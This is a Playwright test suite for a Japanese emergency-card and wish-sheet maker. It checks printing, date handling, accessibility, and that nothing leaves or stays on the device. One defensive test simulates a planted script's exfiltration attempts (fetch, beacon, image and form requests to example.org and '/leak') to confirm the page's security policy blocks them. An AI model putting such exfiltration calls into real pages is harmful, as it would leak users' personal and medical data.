import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Locator } from '@playwright/test';
import { poppler } from '../fixtures/poppler.ts';
import { at, expect, type Page, REAL, type Site, test, watch } from './site.ts';

const MAKER = '/kyukyu/card/tsukuru/';
const FORMS = {
  [MAKER]: ['reizoko', 'saifu', 'hon'],
  '/kyukyu/card/memo/': ['memo'],
  '/jinsei-kaigi/sheet/': ['kimochi', 'kimochi-a6'],
};
const MM = 96 / 25.4;

test.use({ viewport: { width: 390, height: 844 } });

async function open(page: Page, path: string, site?: Site): Promise<void> {
  await page.addInitScript(() => {
    window.print = () => {};
  });
  await page.goto(at(path, site));
}

const field = (page: Page, name: string): Locator => page.locator(`[name="${name}"]`);
const onSheet = (page: Page, sheet: string, name: string): Locator =>
  page.locator(`[data-sheet="${sheet}"] [data-value="${name}"]`).first();

/** Where the form says what happened. */
const status = (page: Page): Locator => page.locator('.fill-status');

/** What is printed now: how many pages, their size, their text. */
async function printed(page: Page): Promise<{ pages: number; size: string; text: string }> {
  const dir = mkdtempSync('.tmp/printed-');
  const file = join(dir, 'page.pdf');
  await page.pdf({ path: file, preferCSSPageSize: true, printBackground: false });
  const info = poppler('pdfinfo', [file]).toString();
  const text = poppler('pdftotext', ['-raw', file, '-']).toString();
  rmSync(dir, { recursive: true });
  return {
    pages: Number(/Pages:\s+(\d+)/.exec(info)?.[1]),
    size: /Page size:.*\((\w+)\)/.exec(info)?.[1] ?? info,
    // Where lines break and spaces stand is not the matter of any test.
    text: text.replaceAll(/\s/g, ''),
  };
}

/** Everything that leaves a trace on the device. */
const stored = (page: Page) =>
  page.evaluate(async () => ({
    local: Object.entries(localStorage),
    session: Object.entries(sessionStorage),
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    address: location.search + location.hash,
  }));

/** Fills every field that is on the screen with what suits its kind. */
async function fillAll(page: Page, long = ''): Promise<void> {
  for (const input of await page.locator('fill-in form :is(input[name], textarea[name])').all()) {
    if (!(await input.isVisible())) continue;
    const [type, kind] = await Promise.all([input.getAttribute('type'), input.getAttribute('data-kind')]);
    if (type === 'radio' || type === 'checkbox') {
      if ((await input.getAttribute('value')) !== '') await input.check();
    } else if (kind === 'tel') await input.fill('04-0000-0000');
    else if (kind === 'day') await input.fill('昭和12年3月4日');
    else await input.fill(kind === 'lines' && long ? long : '見本 𠮷野');
  }
  await page.waitForTimeout(200);
}

for (const [path, names] of Object.entries(FORMS))
  for (const site of [undefined, REAL])
    test(`${site?.name ?? 'fixture city'}: every sheet of ${path} is printed alone on one side of A4, filled in and blank`, async ({
      page,
    }) => {
      await open(page, path, site);
      for (const name of names) {
        await page.locator(`[data-print-blank="${name}"], [data-print="${name}"]`).first().click();
        expect(await printed(page), `${name}, blank`).toMatchObject({ pages: 1, size: 'A4' });
      }
      await fillAll(page);
      for (const name of names) {
        await page.locator(`[data-print="${name}"]`).click();
        const paper = await printed(page);
        expect(paper, name).toMatchObject({ pages: 1, size: 'A4' });
        expect(paper.text).toContain('見本𠮷野');
        expect(paper.text).not.toContain('とばして次へ');
      }
      await expect(page.locator('html')).not.toHaveAttribute('data-printing');
    });

test('a blank sheet stays blank whatever was typed, and what was typed is there again', async ({ page }) => {
  await open(page, MAKER);
  await field(page, 'namae').fill('見本 はな子');
  await page.locator('[data-print-blank=reizoko]').click();
  expect((await printed(page)).text).not.toContain('はな子');
  await expect(onSheet(page, 'reizoko', 'namae')).toHaveText('見本 はな子');
  await expect(field(page, 'namae')).toHaveValue('見本 はな子');
});

test('sheets have their sizes in millimetres, and no letter smaller than they promise', async ({ page }) => {
  await open(page, MAKER);
  await fillAll(page);
  await page.emulateMedia({ media: 'print' });
  const size = (selector: string) =>
    page
      .locator(selector)
      .first()
      .evaluate((element, mm) => {
        const { offsetWidth, offsetHeight } = element as HTMLElement;
        return [offsetWidth / mm, offsetHeight / mm].map((length) => Math.round(length * 10) / 10);
      }, MM);
  const [wide = 0, high = 0] = await size('.wallet');
  expect(Math.abs(wide - 2 * 85.6)).toBeLessThan(0.3);
  expect(Math.abs(high - 54)).toBeLessThan(0.3);
  const [page7 = 0, tall = 0] = await size('.booklet-page');
  expect(Math.abs(page7 - 74.2)).toBeLessThan(0.6);
  expect(Math.abs(tall - 105)).toBeLessThan(0.6);
  expect(await smallest(page, '.fridge')).toBeGreaterThan(13.99);
  expect(await smallest(page, '.wallet')).toBeGreaterThan(7.99);
  expect(await smallest(page, '.booklet')).toBeGreaterThan(9.99);
  await page.goto(at('/jinsei-kaigi/sheet/'));
  expect(await smallest(page, '.wish-a4')).toBeGreaterThan(13.99);
  const [narrow = 0, short = 0] = await size('.wish-a6');
  expect([Math.round(narrow), Math.round(short)]).toEqual([105, 148]);
  await page.goto(at('/kyukyu/card/memo/'));
  expect(await smallest(page, '.memo')).toBeGreaterThan(13.99);
});

/** The smallest letters in an element, in points. */
const smallest = (page: Page, selector: string) =>
  page.locator(selector).evaluate((element) => {
    const sizes: number[] = [];
    const texts = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
    while (texts.nextNode())
      if (texts.currentNode.textContent?.trim())
        sizes.push(
          Number.parseFloat(getComputedStyle(texts.currentNode.parentElement as Element).fontSize) * 0.75,
        );
    return Math.min(...sizes);
  });

test('a name is asked for once and stands on all three sheets; a day is read back in both calendars', async ({
  page,
}) => {
  await open(page, MAKER);
  await field(page, 'namae').fill('𠮷野 はな子👵🏽');
  await field(page, 'umare').fill('Ｓ１２．３．４');
  for (const sheet of FORMS[MAKER]) {
    await expect(onSheet(page, sheet, 'namae')).toHaveText('𠮷野 はな子👵🏽');
    await expect(onSheet(page, sheet, 'umare')).toHaveText('昭和12年3月4日（1937年）');
  }
  await expect(page.locator('[data-said=umare]')).toHaveText('昭和12年3月4日（1937年）');
  // what was typed stays as it was typed
  await expect(field(page, 'umare')).toHaveValue('Ｓ１２．３．４');
});

test('a day that never was is told at its field, read aloud with it, and printed as it was written', async ({
  page,
}) => {
  await open(page, MAKER);
  await field(page, 'umare').fill('昭和65年1月1日');
  const said = page.locator('[data-said=umare]');
  await expect(said).toContainText(
    '昭和65年はありません。昭和は64年1月7日までです。平成2年（1990年）のことですか。',
  );
  await expect(field(page, 'umare')).toHaveAccessibleDescription(/昭和65年はありません/);
  await expect(field(page, 'umare')).toHaveAttribute('aria-invalid', 'true');
  await page.locator('[data-print=reizoko]').click();
  expect((await printed(page)).text).toContain('昭和65年1月1日');
  await field(page, 'umare').fill('平成2年1月1日');
  await expect(field(page, 'umare')).not.toHaveAttribute('aria-invalid');
});

test('nobody is told of a mistake in the middle of a word: only when typing rests or the field is left', async ({
  page,
}) => {
  await page.clock.install();
  await open(page, MAKER);
  const said = page.locator('[data-said=umare]');
  await field(page, 'umare').pressSequentially('昭和12年');
  await page.clock.runFor(500);
  await expect(said).toBeHidden();
  await page.clock.runFor(600);
  await expect(said).toContainText('日にちとして読めません');
  await field(page, 'umare').pressSequentially('3月4日');
  await expect(said).toHaveText('昭和12年3月4日（1937年）');
  await field(page, 'denwa-1').pressSequentially('04');
  await expect(page.locator('[data-said="denwa-1"]')).toBeHidden();
  await page.keyboard.press('Tab');
  await expect(page.locator('[data-said="denwa-1"]')).toContainText('数字が2けたです');
});

test('pasted line breaks, full-width digits and a number too short are taken as they come', async ({
  page,
}) => {
  await open(page, MAKER);
  await field(page, 'denwa-1').fill('０４−０００\n');
  await expect(page.locator('[data-said="denwa-1"]')).toContainText('数字が5けたです');
  await expect(onSheet(page, 'reizoko', 'denwa-1')).toHaveText('04-000');
  await field(page, 'byoumei').fill('心不全\r\n糖尿病');
  await expect(onSheet(page, 'reizoko', 'byoumei')).toHaveText('心不全\n糖尿病', { useInnerText: true });
});

test('an illness too long for a small sheet is whole on the A4 sheet; on small ones its beginning, and that is said at the field', async ({
  page,
}) => {
  await open(page, MAKER);
  const long = '慢性心不全と糖尿病の治療中'.repeat(60).slice(0, 700);
  await fillAll(page);
  await field(page, 'byoumei').fill(long);
  const said = page.locator('[data-said=byoumei]');
  await expect(said).toContainText(/財布のカードには、はじめの\d+字だけ入ります/);
  await expect(onSheet(page, 'reizoko', 'byoumei')).toHaveText(long);
  await expect(onSheet(page, 'saifu', 'byoumei')).toHaveText(/^慢性心不全と.*…（つづきはA4の紙）$/);
  await expect(page.getByText('「病名」は、この紙には途中まで入ります。').first()).toBeVisible();
  await page.locator('[data-print=saifu]').click();
  expect((await printed(page)).text).toContain('つづきはA4の紙');
  // nothing stands outside its box
  expect(
    await page.evaluate(
      () =>
        [...document.querySelectorAll('[data-fit=cut]')].filter(
          (box) => box.scrollHeight > box.clientHeight + 2 || box.scrollWidth > box.clientWidth + 2,
        ).length,
    ),
  ).toBe(0);
  await field(page, 'byoumei').fill('心不全');
  await expect(said).toBeHidden();
});

test('real site: with every field filled in and illnesses of 200 signs nothing is lost on A4, and small sheets keep their size', async ({
  page,
}) => {
  await open(page, MAKER, REAL);
  const long = '慢性心不全と糖尿病の治療中'.repeat(16).slice(0, 200);
  await fillAll(page, long);
  const names = await page
    .locator('fill-in textarea:visible')
    .evaluateAll((areas) => areas.map((area) => (area as HTMLTextAreaElement).name));
  expect(names.length).toBeGreaterThan(5);
  for (const name of names) await expect(onSheet(page, 'reizoko', name)).toHaveText(long);
  await expect(page.getByText(/枚になります/).first()).toBeVisible();
  for (const name of ['saifu', 'hon']) {
    await page.locator(`[data-print="${name}"]`).click();
    expect(await printed(page), name).toMatchObject({ pages: 1 });
  }
  await page.locator('[data-print=reizoko]').click();
  const { text } = await printed(page);
  const count = (words: string) => words.split('慢').length - 1;
  expect(count(text)).toBe(count(long) * names.length);
});

test('more than an A4 sheet can hold goes on to a second page and is said before printing', async ({
  page,
}) => {
  await open(page, MAKER);
  await field(page, 'byoumei').fill('とても長い病名。\n'.repeat(60));
  await expect(page.locator('[data-said=byoumei]')).toContainText('A4の紙が2枚になります');
  await page.locator('[data-print=reizoko]').click();
  const paper = await printed(page);
  expect(paper.pages).toBe(2);
  expect(paper.text.match(/とても長い病名/g)).toHaveLength(60);
});

test('Japanese input is never disturbed while it is being composed', async ({ page }) => {
  await open(page, MAKER);
  await field(page, 'namae').focus();
  const input = await page.context().newCDPSession(page);
  for (const text of ['み', 'みほ', 'みほん', '見本'])
    await input.send('Input.imeSetComposition', {
      text,
      selectionStart: text.length,
      selectionEnd: text.length,
    });
  await expect(field(page, 'namae')).toHaveValue('見本');
  await expect(onSheet(page, 'reizoko', 'namae')).toHaveText('見本');
  await input.send('Input.insertText', { text: '見本' });
  await expect(field(page, 'namae')).toHaveValue('見本');
});

for (const path of Object.keys(FORMS))
  test(`${path}: nothing leaves and nothing stays, whatever is done on it`, async ({ page }) => {
    const complaints = await watch(page);
    await open(page, path);
    await page.waitForLoadState('networkidle');
    const before = await stored(page);
    const requests: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith('blob:')) requests.push(request.url());
    });
    await fillAll(page);
    for (const button of await page.locator('[data-print]').all()) await button.click();
    await printed(page);
    const kept = page.waitForEvent('download');
    await page.getByRole('button', { name: '控えをファイルに取っておく' }).click();
    await (await kept).path();
    await page.getByText('特大', { exact: true }).locator('..').click();
    await page.getByText('標準', { exact: true }).locator('..').click();
    expect(requests).toEqual([]);
    expect(await stored(page)).toEqual(before);
    expect(complaints).toEqual([]);
    // and after coming again nothing is there
    await page.goto(at('/'));
    await page.goto(at(path));
    for (const input of await page.locator('fill-in form :is(input[type=text], textarea)').all())
      await expect(input).toHaveValue('');
  });

test('its policy blocks what a planted script would send: fetch, beacon, image, form, frame', async ({
  page,
}) => {
  await open(page, MAKER);
  const policy = await page.locator('meta[http-equiv=content-security-policy]').getAttribute('content');
  for (const directive of ["connect-src 'none'", "form-action 'none'", "default-src 'none'", 'img-src data:'])
    expect(policy).toContain(directive);
  const asked: string[] = [];
  page.on('response', (response) => asked.push(response.url()));
  const blocked = await page.evaluate(async () => {
    const found: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      found.push(effectiveDirective),
    );
    await fetch('/leak').catch(() => {});
    await fetch('https://example.org/leak').catch(() => {});
    navigator.sendBeacon('/leak', 'name');
    new Image().src = '/leak.png?name';
    new Image().src = 'https://example.org/leak.png?name';
    const frame = document.createElement('iframe');
    frame.src = '/leak';
    document.body.append(frame);
    const form = document.createElement('form');
    form.action = '/leak';
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [...new Set(found)].sort();
  });
  expect(blocked).toEqual(['connect-src', 'form-action', 'frame-src', 'img-src']);
  expect(asked.filter((url) => url.includes('leak'))).toEqual([]);
});

test('the way to the search is a plain link: no search field on a page that sends nothing', async ({
  page,
}) => {
  await open(page, MAKER);
  await expect(page.getByRole('searchbox')).toHaveCount(0);
  await page.getByRole('link', { name: 'さがす', exact: true }).click();
  await expect(page).toHaveURL(at('/sagasu/'));
});

/** Keeps what was typed in a file and gives its text. */
async function keep(page: Page): Promise<{ name: string; text: string }> {
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: '控えをファイルに取っておく' }).click();
  const file = await download;
  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') };
}

const bring = (page: Page, text: string) =>
  page
    .locator('input[type=file]')
    .setInputFiles({ name: 'hikae.json', mimeType: 'application/json', buffer: Buffer.from(text) });

test('a kept file opens next year just as it was, says how old it is, and can be taken back', async ({
  page,
}) => {
  await page.clock.setFixedTime('2026-11-30T10:00:00+09:00');
  await open(page, MAKER);
  await page.getByRole('button', { name: 'もう1人足す' }).click();
  await fillAll(page);
  await field(page, 'byoumei').fill('心不全\n糖尿病 "2型" 𠮷👵🏽');
  const values = () =>
    page.locator('fill-in').evaluate((element) => (element as unknown as { values: object }).values);
  const before = await values();
  await expect(page.getByText('持っている人ならだれでも読めます')).toBeVisible();
  const { name, text } = await keep(page);
  expect(name).toBe('kyukyu-card-2026-11-30.json');
  expect(text).toContain('持っている人ならだれでも読めます');

  await page.clock.setFixedTime('2027-12-05T10:00:00+09:00');
  await open(page, MAKER);
  await field(page, 'namae').fill('書きかけ');
  await bring(page, text);
  await expect(status(page)).toContainText(
    '令和8年11月30日に取っておいた控えです（1年と5日前）。書き直すころです。',
  );
  expect(await values()).toEqual(before);
  await expect(field(page, 'hito-3')).toBeVisible();
  await page.getByRole('button', { name: '前に書いていたものに戻す' }).click();
  expect(await values()).toEqual({ namae: '書きかけ' });
});

for (const [what, text, words] of [
  ['broken', '{"form":"kyuk', 'このファイルは読めませんでした'],
  [
    'of another form',
    '{"form":"yoru-memo","version":1,"savedOn":"2026-11-30","values":{}}',
    '別の用紙の控えです',
  ],
  ['a picture', '\u0000\u0001PNG', 'このファイルは読めませんでした'],
] as const)
  test(`a file that is ${what} is told in a sentence, and nothing typed is lost`, async ({ page }) => {
    await open(page, MAKER);
    await field(page, 'namae').fill('書きかけ');
    await bring(page, text);
    await expect(status(page)).toContainText(words);
    await expect(status(page)).toContainText('そのまま残っています');
    await expect(field(page, 'namae')).toHaveValue('書きかけ');
  });

test('a file of an older form fills what it can and tells the rest', async ({ page }) => {
  await open(page, MAKER);
  await bring(
    page,
    '{"form":"kyukyu-card","version":0,"savedOn":"2025-01-01","values":{"namae":"見本","mukashi-no-ran":"前の言葉"}}',
  );
  await expect(field(page, 'namae')).toHaveValue('見本');
  await expect(status(page)).toContainText('いまの用紙に欄がないもの: 前の言葉');
});

test('clearing asks once, then everything is gone, on paper too', async ({ page }) => {
  await open(page, MAKER);
  await fillAll(page);
  await page.getByRole('button', { name: '書いたことを、ぜんぶ消す' }).click();
  await expect(page.getByRole('button', { name: '消さない' })).toBeFocused();
  await page.getByRole('button', { name: '消さない' }).click();
  await expect(field(page, 'namae')).toHaveValue('見本 𠮷野');
  await page.getByRole('button', { name: '書いたことを、ぜんぶ消す' }).click();
  await page.getByRole('button', { name: 'ぜんぶ消す', exact: true }).click();
  await expect(field(page, 'namae')).toHaveValue('');
  await expect(status(page)).toHaveText('ぜんぶ消しました。');
  expect(await page.locator('fill-in').textContent()).not.toContain('𠮷野');
  await expect(page.getByRole('button', { name: '前に書いていたものに戻す' })).toBeHidden();
});

test('on a device others use too it clears itself after ten minutes of rest, with a word before', async ({
  page,
}) => {
  await page.clock.install({ time: '2026-11-30T10:00:00+09:00' });
  await open(page, MAKER);
  await field(page, 'namae').fill('見本 はな子');
  await page.clock.runFor('30:00');
  await expect(field(page, 'namae')).toHaveValue('見本 はな子');
  await page.getByText('ほかの人も使う機械で書いている').click();
  await page.clock.runFor('09:30');
  await expect(status(page)).toContainText('あと1分で');
  await page.keyboard.press('Shift');
  await page.clock.runFor('09:30');
  await expect(field(page, 'namae')).toHaveValue('見本 はな子');
  await page.clock.runFor('01:00');
  await expect(field(page, 'namae')).toHaveValue('');
  await expect(status(page)).toContainText('書いたことを消しました');
});

test('the invented person is marked 見本 on every sheet, cannot be kept, and goes again', async ({
  page,
}) => {
  await open(page, MAKER);
  await field(page, 'namae').fill('書きかけ');
  await page.getByRole('button', { name: '見本の人で見る' }).click();
  await expect(status(page)).toContainText('本当の人ではありません');
  await expect(onSheet(page, 'reizoko', 'namae')).toHaveText('見本 はな子');
  for (const sheet of FORMS[MAKER]) await expect(page.locator(`[data-sheet=${sheet}]`)).toContainText('見本');
  await page.getByRole('button', { name: '控えをファイルに取っておく' }).click();
  await expect(status(page)).toContainText('見本は、取っておけません');
  await page.getByRole('button', { name: '見本の人で見る' }).click();
  await page.getByRole('button', { name: '前に書いていたものに戻す' }).click();
  await expect(field(page, 'namae')).toHaveValue('書きかけ');
});

test('a lecturer opens it with the invented person at once', async ({ page }) => {
  await open(page, `${MAKER}#mihon`);
  await expect(onSheet(page, 'reizoko', 'namae')).toHaveText('見本 はな子');
});

test('one goes through it by keyboard alone: each step leads to the next, and to the print button', async ({
  page,
}) => {
  await open(page, MAKER);
  await field(page, 'hi').focus();
  await page.keyboard.type('R8.11.30');
  await page.keyboard.press('Tab');
  await expect(field(page, 'namae')).toBeFocused();
  const next = page.getByRole('button', { name: /次へ/ });
  await expect(next.first()).toHaveText('次へ');
  await expect(next.nth(1)).toHaveText('とばして次へ');
  await next.first().press('Enter');
  await expect(field(page, 'hito-1')).toBeFocused();
  await next.last().press('Enter');
  await expect(page.locator('[data-print=reizoko]')).toBeFocused();
  await page.keyboard.press('Enter');
  expect((await printed(page)).text).toContain('令和8年11月30日');
});

test('every field has a name a screen reader says, steps say their question, choices their group', async ({
  page,
}) => {
  await open(page, MAKER);
  await page.getByRole('button', { name: 'もう1人足す' }).click();
  for (const input of await page.locator('fill-in :is(input, textarea)').all())
    expect(
      await input.evaluate((element) => (element as HTMLInputElement).labels?.[0]?.textContent?.trim()),
    ).toBeTruthy();
  await expect(page.getByRole('group', { name: /だれのカードですか/ })).toBeVisible();
  await expect(page.getByRole('group', { name: '3人め' })).toBeVisible();
  await expect(
    page.getByRole('radiogroup', { name: '血液型' }).getByRole('radio', { name: 'AB' }),
  ).not.toBeChecked();
  await expect(page.getByRole('button', { name: 'もう1人足す' })).toBeHidden();
});

test.describe('wherever the device is', () => {
  for (const timezoneId of ['America/Los_Angeles', 'Asia/Tokyo', 'Pacific/Kiritimati'])
    test.describe(timezoneId, () => {
      test.use({ timezoneId });
      test('the reminder falls on the birthday, made on the device', async ({ page }) => {
        await page.clock.setFixedTime('2026-11-30T01:00:00Z');
        await open(page, MAKER);
        await page.getByRole('button', { name: '誕生日に知らせる' }).click();
        await expect(page.getByText('生まれた日が読めないので')).toBeVisible();
        await field(page, 'umare').fill('昭和12年3月4日');
        const download = page.waitForEvent('download');
        await page.getByRole('button', { name: '誕生日に知らせる' }).click();
        const file = readFileSync(await (await download).path(), 'utf8');
        expect(file).toContain('DTSTART;VALUE=DATE:20270304\r\n');
        expect(file).toContain('RRULE:FREQ=YEARLY\r\n');
        await expect(page.getByText('次は令和9年3月4日です')).toBeVisible();
      });
    });
});

test('leaving with something typed asks; with nothing new it does not', async ({ page }) => {
  await open(page, MAKER);
  const asked: string[] = [];
  page.on('dialog', async (dialog) => {
    asked.push(dialog.type());
    await dialog.accept();
  });
  await page.goto(at('/'));
  expect(asked).toEqual([]);
  await open(page, MAKER);
  await field(page, 'namae').click();
  await page.keyboard.type('あ');
  await page.goto(at('/'));
  expect(asked).toEqual(['beforeunload']);
});

test('a saved copy of the page works from a folder, without a network', async ({ page, context }) => {
  await page.goto(at(MAKER));
  const dir = mkdtempSync('.tmp/copy-');
  const file = resolve(dir, 'card.html');
  writeFileSync(file, await (await page.request.get(at(MAKER))).text());
  await context.setOffline(true);
  const errors: string[] = [];
  page.on('console', (message) => errors.push(message.text()));
  page.on('pageerror', (error) => errors.push(error.message));
  await page.goto(pathToFileURL(file).href);
  await field(page, 'namae').fill('見本 はな子');
  await expect(onSheet(page, 'saifu', 'namae')).toHaveText('見本 はな子');
  expect((await keep(page)).text).toContain('見本 はな子');
  expect(errors).toEqual([]);
  rmSync(dir, { recursive: true });
});

test.describe('without scripts', () => {
  test.use({ javaScriptEnabled: false });
  for (const [path, names] of Object.entries(FORMS))
    test(`${path} has no form, says how, and prints its blank sheets`, async ({ page }) => {
      await page.goto(at(path));
      await expect(page.locator('fill-in form')).toBeHidden();
      await expect(page.getByText('ブラウザーのメニューの「印刷」を使うと、白い用紙が出ます')).toBeVisible();
      await expect(page.locator('fill-in button:visible')).toHaveCount(0);
      await page.emulateMedia({ media: 'print' });
      for (const name of names) await expect(page.locator(`[data-sheet="${name}"]`)).toBeVisible();
    });
});
